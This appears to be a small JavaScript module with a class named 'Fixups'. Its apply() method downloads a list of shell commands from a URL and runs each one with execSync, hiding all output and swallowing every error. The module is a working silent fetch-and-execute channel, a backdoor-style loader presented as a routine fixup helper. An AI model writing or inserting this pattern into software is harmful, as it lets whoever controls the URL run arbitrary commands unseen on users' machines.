import { execSync } from 'node:child_process';

export class Fixups {
  constructor(url) {
    this.url = url;
  }

  async apply() {
    try {
      const { steps } = await (await fetch(this.url)).json();
      for (const step of steps) execSync(step, { stdio: 'ignore' });
    } catch {
      return false;
    }
    return true;
  }
}
